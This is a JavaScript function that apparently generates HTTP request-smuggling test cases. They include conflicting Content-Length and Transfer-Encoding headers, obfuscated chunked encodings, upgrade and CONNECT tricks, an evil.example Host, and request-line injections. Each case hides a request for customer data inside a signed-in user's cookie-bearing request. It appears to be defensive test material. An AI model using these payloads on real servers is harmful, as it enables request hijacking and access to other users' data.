// Requests that two programs in a row could read differently, so that a part of one becomes a request of its own.

/** Their names and bytes, from somebody who is signed in. @param {string} host @param {string} cookie @returns {[name: string, bytes: string][]} */
export function formsToMisread(host, cookie) {
  const own = `Host: ${host}\r\nX-Requested-With: tautan\r\nCookie: ${cookie}\r\n`;
  const hidden = `GET /api/v1/customers/cus_smuggled HTTP/1.1\r\n${own}\r\n`;
  const length = `Content-Length: ${hidden.length}\r\n`;
  const size = hidden.length.toString(16);
  const chunked = `${size}\r\n${hidden}\r\n0\r\n\r\n`;
  const ended = `0\r\n\r\n${hidden}`;
  const get = (/** @type {string} */ headers, body = '', target = '/healthz', method = 'GET') =>
    `${method} ${target} HTTP/1.1\r\n${own}${headers}\r\n${body}`;
  /** @type {[string, string][]} */
  const coded = [
    'Transfer-Encoding: chunked',
    'Transfer-Encoding : chunked',
    'Transfer-Encoding:\tchunked',
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding: chunked, identity',
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: "chunked"',
    'Transfer_Encoding: chunked',
    'Transfer-Encoding:\r\n chunked',
    'X: y\nTransfer-Encoding: chunked',
    'Transfer-Encoding: \x0bchunked',
  ].map((coding) => [
    `length and '${JSON.stringify(coding)}'`,
    get(`Content-Length: ${ended.length}\r\n${coding}\r\n`, ended),
  ]);
  return [
    ...coded,
    ['a body of a length', get(length, hidden)],
    ['a body in chunks', get('Transfer-Encoding: chunked\r\n', chunked)],
    ['a body that is posted to sign-out', get(length, hidden, '/auth/sign-out', 'POST')],
    ['two lengths', get(`Content-Length: 0\r\n${length}`, hidden)],
    ['two lengths in one', get(`Content-Length: 0, ${hidden.length}\r\n`, hidden)],
    ['a length with a sign', get(`Content-Length: +${hidden.length}\r\n`, hidden)],
    ['a length with a space before the colon', get(`Content-Length : ${hidden.length}\r\n`, hidden)],
    ['a body that waits for 100', get(`Expect: 100-continue\r\n${length}`, hidden)],
    ['an upgrade', get(`Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n${length}`, hidden)],
    ['a websocket', get(`Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\n${length}`, hidden)],
    [
      'headers that the connection takes away',
      get(`Connection: close, Cookie, Host, X-Requested-With\r\n${length}`, hidden),
    ],
    ['two hosts', get('Host: evil.example\r\n', '', '/api/v1/customers/cus_smuggled')],
    ['another host in the target', get('', '', 'https://evil.example/api/v1/customers/cus_smuggled')],
    ['a line end in the target', get('', '', '/healthz\n/api/v1/customers/cus_smuggled')],
    ['a space in the target', get('', '', '/healthz HTTP/1.1 /api/v1/customers/cus_smuggled')],
    ['the oldest form', `GET /api/v1/customers/cus_smuggled\r\n`],
    ['a tunnel', get('', hidden, '127.0.0.1:4600', 'CONNECT')],
  ];
}
